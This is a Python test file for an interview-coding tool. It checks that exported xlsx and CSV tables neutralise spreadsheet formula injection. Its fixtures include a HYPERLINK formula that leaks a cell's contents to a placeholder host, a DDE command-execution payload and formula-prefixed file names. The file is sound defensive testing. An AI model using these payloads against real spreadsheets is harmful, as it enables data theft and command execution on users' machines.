"""Formula injection (issue 16): texts that a spreadsheet would run as a
formula are text in codingkit.xlsx, get a leading ' in the CSV tables (or are
verbatim with --csv-raw), and the coded texts and offsets do not change."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import openpyxl
from click.testing import CliRunner

from codingkit.cli import cli
from codingkit.codebook import codebook_from_dict
from codingkit.model import Coding, CodingResult, Segment
from codingkit.tables import restore_cell
from codingkit.writers import write_outputs

HYPERLINK = '=HYPERLINK("http://x.example/?leak="&A1,"klicka")'
CALC = "+cmd|' /C calc'!A0 budget"
SUM = "@SUM(1+1) budget"
INTERVIEW = f"""Projekt: =1+1
Omgång: @2
Roll: -upphandlare

I: Vad hände?
IP: {HYPERLINK}
I: Och sen?
IP: {CALC}
I: Mer?
IP: {SUM}
I: Budget?
IP: 'citat' om budget, -2 kronor.
"""

CODEBOOK = """codebook:
  id: test
  version: "1"
codes:
  - id: budget
    label: Budget
    rules: [budget, klicka]
"""


def _rows(path: Path) -> list[dict]:
    with open(path, encoding="utf-8", newline="") as fh:
        return list(csv.DictReader(fh))


def _run(tmp_path: Path, name: str, *extra: str) -> Path:
    folder = tmp_path / "in"
    if not folder.exists():
        folder.mkdir()
        (folder / "=meta.txt").write_text(INTERVIEW, encoding="utf-8")
        (tmp_path / "kb.yaml").write_text(CODEBOOK, encoding="utf-8")
    out = tmp_path / name
    r = CliRunner().invoke(cli, ["apply", str(folder), "--out", str(out), "--codebook",
                                 str(tmp_path / "kb.yaml"), "--similarity", "none",
                                 "--format", "xlsx", "--quiet", *extra],
                           catch_exceptions=False)
    assert r.exit_code == 0, r.output
    return out


def test_formulas_are_text_in_the_workbook_and_neutralised_in_csv(tmp_path):
    out = _run(tmp_path, "res")
    raw = _run(tmp_path, "raw", "--csv-raw")

    # the workbook: no formula anywhere, every text exactly as coded
    wb = openpyxl.load_workbook(out / "codingkit.xlsx")
    kinds = {cell.data_type for ws in wb for row in ws.iter_rows() for cell in row}
    assert "f" not in kinds
    seg_sheet = wb["segments"]
    header = [c.value for c in seg_sheet[1]]
    texts = [row[header.index("text")] for row in seg_sheet.iter_rows(min_row=2,
                                                                      values_only=True)]
    assert HYPERLINK in texts and CALC in texts and SUM in texts
    sources = {row[header.index("source")] for row in seg_sheet.iter_rows(min_row=2,
                                                                          values_only=True)}
    assert sources == {"=meta.txt"}
    assert openpyxl.load_workbook(raw / "codingkit.xlsx")["segments"]["L2"].data_type == "s"

    # the CSV: a leading ' before =, +, -, @ and ' (numbers stay numbers)
    segs = _rows(out / "segments.csv")
    texts = [r["text"] for r in segs]
    assert "'" + HYPERLINK in texts and "'" + CALC in texts and "'" + SUM in texts
    assert "''citat' om budget, -2 kronor." in texts
    assert {r["source"] for r in segs} == {"'=meta.txt"}
    assert {r["project"] for r in segs} == {"'=1+1"}
    assert {r["round"] for r in segs} == {"'@2"}
    assert all(r["segment_id"].startswith("'=meta.txt:") for r in segs)
    codings = _rows(out / "codings.csv")
    assert codings and all(r["segment_id"].startswith("'=meta.txt:") for r in codings)
    assert {r["project"] for r in _rows(out / "frequencies.csv")} == {"'=1+1"}

    # --csv-raw: verbatim, and nothing but the leading ' differs; offsets identical
    raw_segs = _rows(raw / "segments.csv")
    assert HYPERLINK in [r["text"] for r in raw_segs]
    assert [{k: restore_cell(v) for k, v in r.items()} for r in segs] == raw_segs
    assert [{k: restore_cell(v) for k, v in r.items()} for r in codings] == \
        _rows(raw / "codings.csv")
    assert json.loads((out / "manifest.json").read_text("utf-8"))["options"]["csv_raw"] is False
    assert json.loads((raw / "manifest.json").read_text("utf-8"))["options"]["csv_raw"] is True

    # the text the offsets point to is the text codingkit coded
    text = (tmp_path / "in" / "=meta.txt").read_text(encoding="utf-8")
    for r in raw_segs:
        assert text[int(r["start"]):int(r["end"])] == r["text"]


def test_codingkit_reads_its_neutralised_tables_back_as_coded(tmp_path):
    """export-project and evaluate --pred read the CSV tables back: they get
    the texts as coded, not the guarded cells."""
    from codingkit.evaluation.agreement import _read_pred_dir
    from codingkit.refiqda.outputdir import result_from_output_dir

    out = _run(tmp_path, "res")
    result = result_from_output_dir(out)
    assert HYPERLINK in [s.text for s in result.segment_list]
    assert {s.source for s in result.segment_list} == {"=meta.txt"}
    codings, segments, _ = _read_pred_dir(out, None)
    assert set(codings.segment_id) <= {s.segment_id for s in segments}
    assert {s.metadata["project"] for s in segments} == {"=1+1"}
    assert CALC in [s.text for s in segments]


def test_evidence_names_and_metadata_are_guarded_too(tmp_path):
    codebook = codebook_from_dict({"codebook": {"id": "t", "version": "1"},
                                   "codes": [{"id": "budget", "label": "=Budget"}]})
    seg = Segment("@a.txt:1", "@a.txt", 0, 5, "\tHej!", 1, "-IP", "respondent",
                  metadata={"project": "+46", "round": "-1", "kommun": "=A1"})
    coding = Coding("@a.txt:1", "budget", "budget", 1.0, "rule", "=evidens()")
    result = CodingResult([seg], [coding], codebook)
    write_outputs(result, tmp_path / "res", formats=("csv", "xlsx"))
    seg_row = _rows(tmp_path / "res" / "segments.csv")[0]
    assert seg_row["text"] == "'\tHej!" and seg_row["speaker"] == "'-IP"
    assert seg_row["kommun"] == "'=A1"
    assert seg_row["project"] == "+46" and seg_row["round"] == "-1"  # numbers as they are
    assert _rows(tmp_path / "res" / "codings.csv")[0]["evidence"] == "'=evidens()"
    assert _rows(tmp_path / "res" / "frequencies.csv")[0]["label"] == "'=Budget"
    wb = openpyxl.load_workbook(tmp_path / "res" / "codingkit.xlsx")
    assert all(c.data_type != "f" for ws in wb for row in ws.iter_rows() for c in row)
    quotes = wb["quotes"]
    assert [quotes["F2"].value, quotes["M2"].value, quotes["N2"].value] == \
        ["-IP", "=evidens()", "\tHej!"]                    # speaker, evidence, text
    assert wb["frequencies"]["E2"].value == "=Budget"
